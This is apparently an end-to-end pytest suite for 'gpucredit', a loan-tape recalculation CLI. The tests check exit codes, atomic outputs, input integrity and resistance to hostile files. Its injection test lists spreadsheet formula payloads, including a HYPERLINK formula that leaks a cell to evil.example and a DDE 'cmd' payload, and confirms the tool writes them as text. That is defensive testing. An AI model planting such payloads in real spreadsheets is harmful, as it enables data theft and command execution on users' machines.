"""End-to-end tests of the ``gpucredit`` command, run as a user runs it.

The batch run (``gpucredit recalc``), the hostile files and everything whose point is the
process itself (no traceback, memory, exit status, what is left on disk) run the installed
console script in a subprocess; checks where the exit status, the output and the files
written suffice use click's ``CliRunner`` in-process, for speed.

Every tape is built at test time (:mod:`tests.hostile`); the bundled demo tape is read,
never written. Contract under test (issue 4):

* exit status 0 every facility computed, 1 some rejected (the rest computed, the rejects
  on the Errors sheet), 2 input unusable - nothing written;
* the input file is never modified (its SHA-256 before and after);
* outputs are whole or absent: no partial file, no temporary file left in the folder;
* tape text beginning with ``=``, ``+``, ``-`` or ``@`` is written as text;
* one readable line on failure, never a Python traceback.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from tests import hostile as H

from gpucredit.cli import main
from gpucredit.engine import RecalcOptions, recalc
from gpucredit.excel.csv_out import TABLES as CSV_TABLES
from gpucredit.excel.results import column_label
from gpucredit.tape.schema import COLUMNS
from gpucredit.tape.validate import validate_file

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "workbooks" / "demo_tape.xlsx"
VALUATION = dt.date(2026, 6, 30)
NAMES = [c.name for c in COLUMNS]
MAX_SECONDS = 30.0        # a hostile file ends in seconds (generous for loaded CI machines)
MAX_RSS_MB = 1024         # ... and in bounded memory (the zip bomb alone would inflate 2 GB)


# --------------------------------------------------------------------------- running


def _command() -> list[str]:
    script = Path(sys.executable).with_name("gpucredit")
    return [str(script)] if script.exists() else [sys.executable, "-m", "gpucredit.cli"]


@dataclass
class Run:
    code: int
    out: str
    err: str
    seconds: float
    peak_mb: float

    @property
    def text(self) -> str:
        """stdout and stderr with runs of white space (and table borders) collapsed."""
        return " ".join(re.sub(r"[│┃]", " ", self.out + "\n" + self.err).split())


def gpucredit(*args, columns: int = 200, timeout: float = 180.0) -> Run:
    """Run the console script; its exit code, output, wall time and peak memory.

    ``columns`` is the terminal width rich lays out for (``COLUMNS``): wide by default so
    that table cells do not wrap.
    """
    env = {**os.environ, "COLUMNS": str(columns), "NO_COLOR": "1"}
    env.pop("GPUCREDIT_DEBUG", None)
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.perf_counter()
        proc = subprocess.Popen([*_command(), *map(str, args)], stdout=out, stderr=err,
                                env=env, cwd=ROOT)
        while True:  # wait4 gives this child's own peak memory
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.perf_counter() - started > timeout:
                proc.kill()
                os.wait4(proc.pid, 0)
                proc.returncode = -9
                pytest.fail(f"gpucredit {' '.join(map(str, args))} ran over {timeout} s")
            time.sleep(0.02)
        seconds = time.perf_counter() - started
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return Run(proc.returncode, out.read().decode("utf-8", "replace"),
                   err.read().decode("utf-8", "replace"), seconds, usage.ru_maxrss / 1024)


def invoke(*args, columns: int = 200):
    """Run a command in-process with click's runner (exit code, stdout, stderr)."""
    result = CliRunner().invoke(main, [str(a) for a in args], env={"COLUMNS": str(columns)})
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def no_traceback(run) -> None:
    text = run.out + run.err if isinstance(run, Run) else run.output + run.stderr
    assert "Traceback" not in text, text


def squash(text: str) -> str:
    return " ".join(re.sub(r"[│┃]", " ", text).split())


# --------------------------------------------------------------------------- tapes


def tape_rows(n: int) -> list[list]:
    """Header (the template's labels) and ``n`` valid facilities (tests/hostile)."""
    return [list(r) for r in H.full_tape(n)]


def put(rows: list[list], row: int, name: str, value) -> None:
    """Set the cell of schema column ``name`` on spreadsheet row ``row`` (header = 1)."""
    rows[row - 1][NAMES.index(name)] = value


def write_tape(path: Path, rows: list[list], valuation: dt.date = VALUATION) -> Path:
    """An .xlsx tape: the Tape sheet and an Assumptions sheet fixing the valuation date."""
    return H.write_xlsx(path, {"Tape": rows, "Assumptions": [["Assumption", "Value"],
                                                              ["Valuation date", valuation]]})


def read_table(path: Path, sheet: str, first_label: str) -> list[dict]:
    """The records of the table on ``sheet`` whose header row starts with ``first_label``."""
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        rows = list(wb[sheet].iter_rows(values_only=True))
    finally:
        wb.close()
    start = next(i for i, r in enumerate(rows) if r and r[0] == first_label)
    header = rows[start]
    records = []
    for r in rows[start + 1:]:
        if r is None or all(v is None for v in r):
            break
        records.append({h: v for h, v in zip(header, r, strict=False) if h is not None})
    return records


def only(folder: Path) -> list[str]:
    """The names in a folder, hidden (temporary) files included."""
    return sorted(p.name for p in folder.iterdir())


@pytest.fixture
def out_dir(tmp_path) -> Path:
    d = tmp_path / "out"
    d.mkdir()
    return d


@pytest.fixture
def bad_row_tape(tmp_path) -> Path:
    """Four facilities; the one on row 3 has a utilization of 120%."""
    rows = tape_rows(4)
    put(rows, 3, "utilization", 1.2)
    return write_tape(tmp_path / "bad_row.xlsx", rows)


# --------------------------------------------------------------------------- the demo


@pytest.mark.slow
def test_recalc_demo_tape_end_to_end(out_dir):
    before = H.sha256(DEMO)
    results, csv_dir = out_dir / "results.xlsx", out_dir / "csv"
    run = gpucredit("recalc", DEMO, "-o", results, "--paths", 200, "--seed", 7,
                    "--csv", csv_dir)
    assert run.code == 0, run.out + run.err
    no_traceback(run)
    assert H.sha256(DEMO) == before
    # The summary in the terminal.
    assert "Portfolio" in run.out and "Worst" in run.out
    assert "Facilities computed 15" in run.text, run.out
    assert "Expected loss, Monte Carlo" in run.out
    assert f"Results written to {results} (15 facilities computed, 0 rejected" in run.text
    # The outputs, and nothing else, in the folder.
    assert only(out_dir) == ["csv", "results.xlsx"]
    assert only(csv_dir) == sorted(f"{t}.csv" for t in CSV_TABLES)
    wb = openpyxl.load_workbook(results, read_only=True)
    names = wb.sheetnames
    wb.close()
    for sheet in ("Summary", "Metrics", "Periods", "Scenarios", "Errors", "Assumptions"):
        assert sheet in names
    report, good = validate_file(DEMO)
    ids = list(good["facility_id"])
    assert len(ids) == 15
    metrics = read_table(results, "Metrics", column_label("facility_id"))
    assert [r[column_label("facility_id")] for r in metrics] == ids
    # The face adds nothing: its numbers are the engine's, same seed and paths.
    rows = good.assign(_row=good.index, _sheet=report.sheet or "").reset_index(drop=True)
    engine = recalc(rows, report.assumptions, RecalcOptions(n_paths=200, seed=7)).metrics
    table = pd.read_csv(csv_dir / "metrics.csv")
    assert list(table["facility_id"]) == ids
    for col in ("debt", "min_dscr", "llcr", "max_ltv_liquidation", "mc_pd",
                "mc_expected_loss", "fair_spread_bp"):
        np.testing.assert_allclose(table[col].to_numpy(float), engine[col].to_numpy(float),
                                   rtol=1e-12, atol=0, err_msg=col)
        from_sheet = [r[column_label(col)] for r in metrics]
        np.testing.assert_allclose(np.array(from_sheet, dtype=float),
                                   engine[col].to_numpy(float), rtol=1e-12, atol=0,
                                   err_msg=col)


def test_version_and_help():
    assert re.search(r"gpucredit, version \d+\.\d+", invoke("--version").output)
    text = invoke("--help").output
    for command in ("template", "validate", "recalc", "recalc-workbook"):
        assert command in text


# --------------------------------------------------------------------------- validate


def test_validate_good_tape_exit_0(tmp_path):
    tape = write_tape(tmp_path / "good.xlsx", tape_rows(3))
    before = H.sha256(tape)
    res = invoke("validate", tape)
    assert res.exit_code == 0, res.output
    assert "good.xlsx: 3 facilities read, 3 accepted, 0 rejected (0 errors, 0 warnings)" \
        in squash(res.output)
    assert H.sha256(tape) == before


def test_validate_bad_row_exit_1_names_sheet_row_column(bad_row_tape):
    before = H.sha256(bad_row_tape)
    res = invoke("validate", bad_row_tape)
    assert res.exit_code == 1, res.output
    text = squash(res.output)
    letter = H.col_letter(NAMES.index("utilization") + 1)
    # The table's Sheet, Row, Column and Facility cells, then the analyst's message.
    assert re.search(rf"error Tape 3 {letter} \(Utilization\) FAC-000002 Row 3, column "
                     rf"{letter} \(Utilization\): 120% is above 100%", text), text
    assert "4 facilities read, 3 accepted, 1 rejected (1 error, 0 warnings)" in text
    assert H.sha256(bad_row_tape) == before


def test_validate_strict_bad_row_exit_2(bad_row_tape):
    res = invoke("validate", bad_row_tape, "--strict")
    assert res.exit_code == 2
    assert "stopped: --strict and errors found" in squash(res.output)


@pytest.mark.parametrize(("name", "value", "row", "column", "fragment"), [
    ("drawn_amount", 1e12, 2, "drawn_amount", "is more than the commitment"),
    ("maturity_date", dt.date(2024, 1, 1), 2, "maturity_date",
     "is not after the origination date"),
    ("gpu_model", "Z999", 2, "gpu_model", "Z999"),
    ("borrower_type", "bank", 2, "borrower_type", "bank"),
    ("gpu_count", "many", 2, "gpu_count", "many"),
    ("borrower", None, 2, "borrower", "this required cell is blank"),
])
def test_validate_rules_through_the_command(tmp_path, name, value, row, column, fragment):
    rows = tape_rows(2)
    put(rows, row, name, value)
    tape = write_tape(tmp_path / "tape.xlsx", rows)
    res = invoke("validate", tape)
    assert res.exit_code == 1, res.output
    text = squash(res.output)
    letter = H.col_letter(NAMES.index(column) + 1)
    assert f"Row {row}, column {letter} (" in text
    assert fragment in text
    assert "2 facilities read, 1 accepted, 1 rejected" in text


def test_validate_duplicate_ids_reject_both_rows(tmp_path):
    rows = tape_rows(3)
    put(rows, 4, "facility_id", "FAC-000001")
    tape = write_tape(tmp_path / "tape.xlsx", rows)
    res = invoke("validate", tape)
    assert res.exit_code == 1, res.output
    text = squash(res.output)
    assert ('Row 2, column A (Facility ID): the facility id "FAC-000001" also appears on '
            "row 4") in text
    assert ('Row 4, column A (Facility ID): the facility id "FAC-000001" also appears on '
            "row 2") in text
    assert "3 facilities read, 1 accepted, 2 rejected" in text


@pytest.mark.parametrize("maker", [H.make_pdf, H.make_truncated, H.make_encrypted],
                         ids=["pdf", "truncated", "encrypted"])
def test_validate_unusable_file_exit_2(tmp_path, maker):
    path = maker(tmp_path / "tape.xlsx")
    before = H.sha256(path)
    res = invoke("validate", path)
    assert res.exit_code == 2
    assert "tape.xlsx: unusable - tape.xlsx" in squash(res.output)
    assert H.sha256(path) == before


def test_validate_missing_file_exit_2(tmp_path):
    res = invoke("validate", tmp_path / "nowhere.xlsx")
    assert res.exit_code == 2
    assert "nowhere.xlsx was not found" in squash(res.output)


# --------------------------------------------------------------------------- recalc


def test_recalc_bad_row_computes_the_others_and_lists_it(bad_row_tape, out_dir):
    before = H.sha256(bad_row_tape)
    results = out_dir / "results.xlsx"
    res = invoke("recalc", bad_row_tape, "-o", results)
    assert res.exit_code == 1, res.output + res.stderr
    assert "(3 facilities computed, 1 rejected" in squash(res.output)
    assert H.sha256(bad_row_tape) == before
    assert only(out_dir) == ["results.xlsx"]
    metrics = read_table(results, "Metrics", column_label("facility_id"))
    assert [r[column_label("facility_id")] for r in metrics] == [
        "FAC-000001", "FAC-000003", "FAC-000004"]
    errors = read_table(results, "Errors", column_label("sheet"))
    letter = H.col_letter(NAMES.index("utilization") + 1)
    [err] = [e for e in errors if e[column_label("severity")] == "error"]
    assert err[column_label("sheet")] == "Tape"
    assert err[column_label("row")] == 3
    assert err[column_label("column")] == f"{letter} (Utilization)"
    assert err[column_label("facility_id")] == "FAC-000002"
    assert err[column_label("message")].startswith(
        f"Row 3, column {letter} (Utilization): 120% is above 100%")


def test_recalc_strict_bad_row_exit_2_nothing_written(bad_row_tape, out_dir):
    before = H.sha256(bad_row_tape)
    res = invoke("recalc", bad_row_tape, "-o", out_dir / "results.xlsx", "--strict",
                 "--csv", out_dir / "csv")
    assert res.exit_code == 2
    assert "stopped: --strict and errors found" in squash(res.stderr)
    assert "nothing written" in squash(res.stderr)
    assert only(out_dir) == []
    assert H.sha256(bad_row_tape) == before


def test_recalc_matured_loan_rejected_others_computed(tmp_path, out_dir):
    rows = tape_rows(3)
    put(rows, 3, "origination_date", dt.date(2023, 1, 1))
    put(rows, 3, "maturity_date", dt.date(2026, 3, 31))      # before 2026-06-30
    put(rows, 3, "contract_end_date", dt.date(2025, 12, 31))
    tape = write_tape(tmp_path / "matured.xlsx", rows)
    results = out_dir / "results.xlsx"
    res = invoke("recalc", tape, "-o", results)
    assert res.exit_code == 1, res.output + res.stderr
    assert "(2 facilities computed, 1 rejected" in squash(res.output)
    metrics = read_table(results, "Metrics", column_label("facility_id"))
    assert [r[column_label("facility_id")] for r in metrics] == ["FAC-000001", "FAC-000003"]
    errors = read_table(results, "Errors", column_label("sheet"))
    rejected = [e for e in errors if e[column_label("severity")] == "error"]
    assert [e[column_label("facility_id")] for e in rejected] == ["FAC-000002"]
    assert rejected[0][column_label("message")].endswith(
        "2026-03-31 is on or before the valuation date 2026-06-30: the facility has "
        "matured and has nothing left to recalculate")
    assert rejected[0][column_label("row")] == 3


def test_recalc_nothing_computable_exit_2_nothing_written(tmp_path, out_dir):
    # Every facility has matured: the validator rejects them all. Nothing computed is an
    # unusable input: exit 2, no workbook.
    rows = tape_rows(2)
    for r in (2, 3):
        put(rows, r, "origination_date", dt.date(2023, 1, 1))
        put(rows, r, "maturity_date", dt.date(2026, 3, 31))
        put(rows, r, "contract_end_date", dt.date(2025, 12, 31))
    tape = write_tape(tmp_path / "all_matured.xlsx", rows)
    res = invoke("recalc", tape, "-o", out_dir / "results.xlsx")
    assert res.exit_code == 2, res.output + res.stderr
    assert only(out_dir) == []


def test_recalc_csv_tables(tmp_path, out_dir):
    tape = write_tape(tmp_path / "tape.xlsx", tape_rows(3))
    res = invoke("recalc", tape, "-o", out_dir / "results.xlsx", "--csv", out_dir / "tables",
                 "--quiet")
    assert res.exit_code == 0, res.output + res.stderr
    assert only(out_dir / "tables") == sorted(f"{t}.csv" for t in CSV_TABLES)
    metrics = pd.read_csv(out_dir / "tables" / "metrics.csv")
    assert list(metrics["facility_id"]) == ["FAC-000001", "FAC-000002", "FAC-000003"]
    periods = pd.read_csv(out_dir / "tables" / "periods.csv")
    assert set(periods["facility_id"]) == set(metrics["facility_id"])
    assert "CSV tables written to" in squash(res.output)


def test_recalc_periods_format_parquet(tmp_path, out_dir, monkeypatch):
    """Over the workbook's period limit, every period goes to RESULTS_periods.parquet (and
    with --csv, periods.csv holds them all too); under it, to no file at all."""
    from gpucredit.excel import results

    tape = write_tape(tmp_path / "tape.xlsx", tape_rows(3))
    res = invoke("recalc", tape, "-o", out_dir / "small.xlsx", "--periods-format", "parquet",
                 "--quiet")
    assert res.exit_code == 0, res.output + res.stderr
    assert only(out_dir) == ["small.xlsx"]
    monkeypatch.setattr(results.write_results, "__kwdefaults__",
                        {**results.write_results.__kwdefaults__, "max_period_rows": 20})
    res = invoke("recalc", tape, "-o", out_dir / "big.xlsx", "--periods-format", "parquet",
                 "--csv", out_dir / "tables", "--quiet")
    assert res.exit_code == 0, res.output + res.stderr
    assert "big_periods.parquet" in only(out_dir)
    every = pd.read_parquet(out_dir / "big_periods.parquet")
    assert len(every) > 20 and set(every["facility_id"]) == {
        "FAC-000001", "FAC-000002", "FAC-000003"}
    assert type(every["date"].iloc[0]).__name__ == "date"  # typed, not text
    assert len(pd.read_csv(out_dir / "tables" / "periods.csv")) == len(every)
    assert "big_periods.parquet" in squash(res.output)


def test_recalc_csv_folder_missing_both_outputs_or_neither(tmp_path, out_dir):
    # The CSV folder's parent does not exist. Whether the command creates it or refuses,
    # the outputs are whole or absent together: never a workbook announced as "nothing
    # written", never a workbook without the CSV tables asked for.
    tape = write_tape(tmp_path / "tape.xlsx", tape_rows(2))
    res = invoke("recalc", tape, "-o", out_dir / "results.xlsx",
                 "--csv", out_dir / "missing" / "tables", "--quiet")
    no_traceback(res)
    if res.exit_code == 0:
        assert only(out_dir / "missing" / "tables") == sorted(f"{t}.csv" for t in CSV_TABLES)
        assert (out_dir / "results.xlsx").is_file()
    else:
        assert res.exit_code == 2
        assert "missing" in squash(res.stderr)
        assert only(out_dir) == []


def test_recalc_creates_a_missing_output_folder(tmp_path):
    tape = write_tape(tmp_path / "tape.xlsx", tape_rows(2))
    results = tmp_path / "new" / "folder" / "results.xlsx"
    res = invoke("recalc", tape, "-o", results, "--quiet")
    assert res.exit_code == 0, res.output + res.stderr
    assert only(results.parent) == ["results.xlsx"]


@pytest.mark.parametrize("spelling", ["same", "dotdot", "symlink", "hardlink"])
def test_recalc_refuses_to_overwrite_its_input(tmp_path, spelling):
    tape = write_tape(tmp_path / "tape.xlsx", tape_rows(2))
    before = H.sha256(tape)
    (tmp_path / "sub").mkdir()
    if spelling == "same":
        output = tape
    elif spelling == "dotdot":
        output = tmp_path / "sub" / ".." / "tape.xlsx"
    elif spelling == "symlink":
        output = tmp_path / "sub" / "link.xlsx"
        output.symlink_to(tape)
    else:
        output = tmp_path / "sub" / "hard.xlsx"
        os.link(tape, output)
    res = invoke("recalc", tape, "-o", output)
    assert res.exit_code == 2
    assert "is the input tape" in squash(res.stderr)
    assert H.sha256(tape) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sub", "tape.xlsx"]


# --------------------------------------------------------------------------- injection


INJECTED = {
    # (spreadsheet row, column): text a spreadsheet would run as a formula
    (2, "facility_id"): "=F1",
    (2, "borrower"): '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    (2, "source"): "=cmd|' /C calc'!A0",
    (3, "facility_id"): "+F2",
    (3, "borrower"): "+1+2",
    (3, "source"): "+SUM(1,2)",
    (4, "facility_id"): "-F3",
    (4, "borrower"): "-2",
    (4, "source"): "-1+1",
    (5, "facility_id"): "@F4",
    (5, "borrower"): "@SUM(A1:A2)",
    (5, "source"): "@cmd",
}


def test_formula_like_tape_text_is_written_as_text(tmp_path, out_dir):
    rows = tape_rows(5)
    for (row, name), text in INJECTED.items():
        put(rows, row, name, text)
    put(rows, 6, "borrower_type", "=1+1")  # a rejected value: it goes to the Errors sheet
    tape = write_tape(tmp_path / "injected.xlsx", rows)
    results = out_dir / "results.xlsx"
    res = invoke("recalc", tape, "-o", results, "--csv", out_dir / "csv")
    assert res.exit_code == 1, res.output + res.stderr

    wb = openpyxl.load_workbook(results)
    metrics = wb["Metrics"]
    header = next(r for r in metrics.iter_rows() if r[0].value == column_label("facility_id"))
    col = {c.value: c.column for c in header}
    found = {}
    for r in metrics.iter_rows(min_row=header[0].row + 1):
        fid = r[col[column_label("facility_id")] - 1]
        if fid.value is None:
            break
        for name in ("facility_id", "borrower", "source"):
            cell = r[col[column_label(name)] - 1]
            found[(fid.value, name)] = (cell.value, cell.data_type)
    for (row, name), text in INJECTED.items():
        fid = INJECTED[(row, "facility_id")]
        assert found[(fid, name)] == (text, "s"), (row, name)
    # No cell anywhere in the workbook holds a formula made of tape text.
    payloads = set(INJECTED.values()) | {"=1+1"}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in payloads:
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
    errors = read_table(results, "Errors", column_label("sheet"))
    assert "=1+1" in [e[column_label("value")] for e in errors]
    wb.close()
    with zipfile.ZipFile(results) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                for f in re.findall(r"<f[^>]*>(.*?)</f>", xml, flags=re.S):
                    assert "HYPERLINK" not in f and "cmd|" not in f, (name, f)
    # The CSV tables mark the same text with an apostrophe (OWASP CSV injection).
    table = pd.read_csv(out_dir / "csv" / "metrics.csv", dtype=str)
    assert "'=F1" in set(table["facility_id"])
    assert "'" + INJECTED[(2, "borrower")] in set(table["borrower"])


def test_rich_markup_in_tape_text_is_printed_literally(tmp_path, out_dir):
    # Tape text holding rich's markup brackets is shown as typed: "[x]" would be taken for
    # a style (and vanish), "[/b]" for a closing tag without its opening (MarkupError).
    # It must never crash the terminal output, least of all after the workbook is written.
    rows = tape_rows(3)
    put(rows, 2, "facility_id", "F [x] 1")
    put(rows, 3, "facility_id", "F [/b] 2")
    put(rows, 4, "facility_id", "F [/i] 3")
    put(rows, 4, "utilization", "[/red]")
    for r in (2, 3, 4):
        put(rows, r, "borrower", "B [/bold] Co")
    tape = write_tape(tmp_path / "markup.xlsx", rows)
    run = gpucredit("validate", tape)
    no_traceback(run)
    assert run.code == 1
    assert "F [/i] 3" in run.out and '"[/red]"' in run.out
    run = gpucredit("recalc", tape, "-o", out_dir / "results.xlsx")
    no_traceback(run)
    assert run.code == 1
    assert "F [x] 1" in run.out and "F [/b] 2" in run.out    # the worst facilities
    assert "F [/i] 3" in run.out                             # the problem found
    assert only(out_dir) == ["results.xlsx"]


# --------------------------------------------------------------------------- hostile files


def _huge_declared(path: Path) -> Path:
    return H.make_huge_extent(path, far=None)


HOSTILE = [
    # (id, builder, file name, fragment of the message)
    ("corrupt_zip", H.make_corrupt, "tape.xlsx", "is damaged"),
    ("truncated_zip", H.make_truncated, "tape.xlsx", "not a complete zip archive"),
    ("pdf", H.make_pdf, "tape.xlsx", "is not a spreadsheet: it looks like a PDF"),
    ("random_bytes", H.make_random, "tape.xlsx", "is not a spreadsheet"),
    ("empty", H.make_empty, "tape.csv", "is empty"),
    ("encrypted", H.make_encrypted, "tape.xlsx", "password-protected"),
    ("legacy_xls", H.make_legacy_xls, "tape.xls", "Excel 97-2003"),
    ("entity_bomb", H.make_entity_bomb, "tape.xlsx", "entity bomb"),
    ("external_entity", H.make_external_entity, "tape.xlsx", "document type"),
    ("zip_bomb", H.make_zip_bomb, "tape.xlsx", "zip bomb"),
    ("lying_zip_bomb", H.make_lying_bomb, "tape.xlsx", "is damaged"),
    ("huge_sheet_far_cell", H.make_huge_extent, "tape.xlsx", "16,384"),
    ("huge_declared_sheet", _huge_declared, "tape.xlsx", "the required column"),
    ("million_row_csv", H.make_million_rows_csv, "tape.csv", "200,000 rows"),
]
SLOW_HOSTILE = {"million_row_csv"}


@pytest.mark.parametrize(("case", "maker", "name", "fragment"), [
    pytest.param(*h, id=h[0], marks=[pytest.mark.slow] if h[0] in SLOW_HOSTILE else [])
    for h in HOSTILE])
def test_hostile_file_through_recalc(tmp_path, out_dir, case, maker, name, fragment):
    (tmp_path / "in").mkdir()
    path = maker(tmp_path / "in" / name)
    before = H.sha256(path)
    run = gpucredit("recalc", path, "-o", out_dir / "results.xlsx", "--paths", 100,
                    "--csv", out_dir / "csv")
    assert run.code == 2, run.out + run.err
    no_traceback(run)
    text = squash(run.err)
    assert text.startswith("error: "), run.err
    assert name in text and fragment in text, text
    assert "nothing written" in text
    assert run.seconds < MAX_SECONDS
    assert run.peak_mb < MAX_RSS_MB, f"{case}: {run.peak_mb:.0f} MB"
    assert H.sha256(path) == before
    assert only(out_dir) == []                      # no output, no temporary file
    assert only(tmp_path / "in") == [name]          # nothing written beside the input


@pytest.mark.parametrize("maker", [H.make_pdf, H.make_encrypted, H.make_zip_bomb],
                         ids=["pdf", "encrypted", "zip_bomb"])
def test_failure_is_one_line(tmp_path, out_dir, maker):
    # At a terminal's usual width, or piped into a log file, the reason is one line on
    # stderr (rich must not wrap it), and reads as one sentence (no "again.: nothing").
    path = maker(tmp_path / "tape.xlsx")
    run = gpucredit("recalc", path, "-o", out_dir / "results.xlsx", columns=80)
    assert run.code == 2
    lines = run.err.strip().splitlines()
    assert len(lines) == 1, run.err
    assert lines[0].startswith("error: tape.xlsx")
    assert ".:" not in lines[0]


def test_hostile_files_through_validate(tmp_path):
    for case, maker, name, fragment in HOSTILE:
        if case in SLOW_HOSTILE:
            continue
        folder = tmp_path / case
        folder.mkdir()
        path = maker(folder / name)
        before = H.sha256(path)
        res = invoke("validate", path)
        assert res.exit_code == 2, (case, res.output)
        assert fragment in squash(res.output), case
        assert H.sha256(path) == before
        assert only(folder) == [name]


# --------------------------------------------------------------------------- templates


def test_template_tape_writes_a_workbook_that_fills_and_runs(tmp_path, out_dir):
    path = tmp_path / "tape_template.xlsx"
    res = invoke("template", "tape", "-o", path)
    assert res.exit_code == 0, res.output
    assert "Loan-tape template written to" in squash(res.output)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:5] == ["Instructions", "Tape", "Assumptions", "Sources", "Market"]
    ws = wb["Tape"]
    assert len(ws.tables) == 1
    labels = [c.value for c in ws[1]]
    assert labels[: len(NAMES)] == [c.label for c in COLUMNS]
    assert "valuation_date" in wb.defined_names
    # Blank, it is not a tape yet.
    assert invoke("validate", path).exit_code == 2
    # An analyst fills two rows and the valuation date, then runs the batch.
    for r, values in enumerate(H.full_tape(2), start=1):
        if r == 1:
            continue
        for j, v in enumerate(values, start=1):
            ws.cell(row=r, column=j, value=v)
    sheet, ref = next(iter(wb.defined_names["valuation_date"].destinations))
    wb[sheet][ref.replace("$", "")] = VALUATION
    filled = tmp_path / "filled.xlsx"
    wb.save(filled)
    res = invoke("validate", filled)
    assert res.exit_code == 0, res.output
    assert "2 facilities read, 2 accepted, 0 rejected" in squash(res.output)
    res = invoke("recalc", filled, "-o", out_dir / "results.xlsx", "--quiet")
    assert res.exit_code == 0, res.output + res.stderr
    metrics = read_table(out_dir / "results.xlsx", "Metrics", column_label("facility_id"))
    assert [r[column_label("facility_id")] for r in metrics] == ["FAC-000001", "FAC-000002"]


def test_template_model_writes_a_workbook(tmp_path):
    path = tmp_path / "model.xlsx"
    res = invoke("template", "model", "-o", path)
    assert res.exit_code == 0, res.output
    assert "Deal-model workbook written to" in squash(res.output)
    wb = openpyxl.load_workbook(path)
    assert {"Inputs", "Calcs", "Outputs"} <= set(wb.sheetnames)
    assert only(tmp_path) == ["model.xlsx"]


def test_outputs_are_readable_like_any_file_the_user_saves(tmp_path, out_dir):
    # Files are created with the user's umask (0644 under the usual 022), not the 0600
    # of a temporary file: a results workbook on a shared drive must be readable by the
    # team.
    mask = os.umask(0)
    os.umask(mask)
    expected = 0o666 & ~mask
    invoke("template", "tape", "-o", tmp_path / "tape_template.xlsx")
    invoke("template", "model", "-o", tmp_path / "model.xlsx")
    tape = write_tape(tmp_path / "tape.xlsx", tape_rows(2))
    invoke("recalc", tape, "-o", out_dir / "results.xlsx", "--csv", out_dir / "csv",
           "--quiet")
    files = [tmp_path / "tape_template.xlsx", tmp_path / "model.xlsx",
             out_dir / "results.xlsx", out_dir / "csv" / "metrics.csv"]
    modes = {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in files}
    assert modes == {p.name: oct(expected) for p in files}


def test_template_output_onto_itself_is_rewritten_whole(tmp_path):
    path = tmp_path / "tape_template.xlsx"
    assert invoke("template", "tape", "-o", path).exit_code == 0
    assert invoke("template", "tape", "-o", path).exit_code == 0
    openpyxl.load_workbook(path).close()
    assert only(tmp_path) == ["tape_template.xlsx"]


def test_validate_demo_tape(tmp_path):
    copy = Path(shutil.copy(DEMO, tmp_path / "demo.xlsx"))
    res = invoke("validate", copy)
    assert res.exit_code == 0, res.output
    assert "15 facilities read, 15 accepted, 0 rejected" in squash(res.output)


def test_recalc_takes_monte_carlo_settings_from_the_assumptions(tmp_path, out_dir):
    rows = tape_rows(2)
    tape = H.write_xlsx(tmp_path / "mc.xlsx", {
        "Tape": rows, "Assumptions": [["Assumption", "Value"], ["Valuation date", VALUATION],
                                      ["Monte Carlo paths", 300], ["Monte Carlo seed", 11]]})
    res = invoke("recalc", tape, "-o", out_dir / "a.xlsx", "--csv", out_dir / "a", "--quiet")
    assert res.exit_code == 0, res.output + res.stderr
    same = invoke("recalc", tape, "-o", out_dir / "b.xlsx", "--csv", out_dir / "b", "--quiet",
                  "--paths", "300", "--seed", "11")
    assert same.exit_code == 0, same.output + same.stderr
    a = pd.read_csv(out_dir / "a" / "metrics.csv")
    b = pd.read_csv(out_dir / "b" / "metrics.csv")
    assert "mc_pd" in a.columns
    pd.testing.assert_frame_equal(a, b)
    # the command line wins over the sheet
    none = invoke("recalc", tape, "-o", out_dir / "c.xlsx", "--csv", out_dir / "c", "--quiet",
                  "--paths", "0")
    assert none.exit_code == 0, none.output + none.stderr
    assert "mc_pd" not in pd.read_csv(out_dir / "c" / "metrics.csv").columns


def test_a_signal_while_the_libraries_load_ends_cleanly():
    """Ctrl-C or SIGTERM in the second the command spends importing: a sentence and
    exit 2, no traceback; once loaded, the handlers that were there are back."""
    import subprocess

    for sig in ("SIGINT", "SIGTERM"):
        code = ("import os, signal, time, gpucredit._starting\n"
                f"os.kill(os.getpid(), signal.{sig})\ntime.sleep(5)\n")
        res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                             timeout=60)
        assert res.returncode == 2, res.stderr
        assert res.stderr == f"interrupted ({sig}) while starting: nothing written\n"
    code = ("import signal, gpucredit.cli\n"
            "assert signal.getsignal(signal.SIGINT) is signal.default_int_handler\n"
            "assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL\n")
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         timeout=120)
    assert res.returncode == 0, res.stderr
